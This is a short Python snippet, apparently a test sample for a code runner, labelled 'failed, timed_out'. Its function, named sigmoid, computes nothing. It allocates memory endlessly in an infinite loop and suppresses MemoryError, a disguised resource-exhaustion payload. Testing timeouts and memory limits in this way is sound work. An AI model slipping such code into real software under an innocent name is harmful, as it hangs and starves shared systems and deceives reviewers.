# failed, timed_out
def sigmoid(z):
    kept = []
    while True:
        try:
            kept.append(bytearray(b"x") * 10**7)
        except MemoryError:
            pass
